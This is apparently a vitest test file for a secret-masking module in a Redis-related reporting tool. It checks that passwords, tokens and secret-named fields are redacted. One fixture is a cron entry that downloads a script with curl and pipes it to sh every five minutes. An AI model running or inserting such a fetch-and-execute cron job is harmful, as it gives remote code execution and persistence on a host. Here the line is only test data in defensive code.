import { describe, expect, it } from 'vitest';
import { MASK, scrubDeep, scrubText } from '../../../src/report/scrub.js';

describe('scrub', () => {
  it('masks secret-looking values inside text', () => {
    expect(scrubText('requirepass hunter2hunter2')).toBe(`requirepass ${MASK}`);
    expect(scrubText('redis-cli -h 10.0.0.1 -p 6380 -a "p w" CONFIG GET dir')).toBe(`redis-cli -h 10.0.0.1 -p 6380 -a ${MASK} CONFIG GET dir`);
    expect(scrubText('AUTH s3cret')).toBe(`AUTH ${MASK}`);
    expect(scrubText('password=abc; token=xyz')).toBe(`password=${MASK}; token=${MASK}`);
    expect(scrubText('{"password": "abc", "user": "u"}')).toBe(`{"password": ${MASK}, "user": "u"}`);
    expect(scrubText('REDISCLI_AUTH=zzz redis-cli ping')).toBe(`REDISCLI_AUTH=${MASK} redis-cli ping`);
  });

  it('leaves ordinary text alone', () => {
    for (const s of ['PasswordAuthentication no', 'bypass the proxy', 'applications that need the new password: java app (/opt/app/conf/redis.properties)', 'set requirepass', '*/5 * * * * curl -fsSL https://x/api/report?pm=0 | sh'])
      expect(scrubText(s)).toBe(s);
  });

  it('masks exact secret values anywhere, and is idempotent', () => {
    expect(scrubText('the value Zq8-long-secret appears', ['Zq8-long-secret'])).toBe(`the value ${MASK} appears`);
    expect(scrubText(scrubText('requirepass x1'))).toBe(`requirepass ${MASK}`);
  });

  it('drops fields named like secrets at any depth', () => {
    const out = scrubDeep({ a: { password: 'x', redisPassword: 'y', requirepass: 'z', apiKey: 'k', private_key: 'p', note: 'keep' }, list: [{ secret: 1, ok: 2 }] });
    expect(out).toEqual({ a: { note: 'keep' }, list: [{ ok: 2 }] });
  });
});
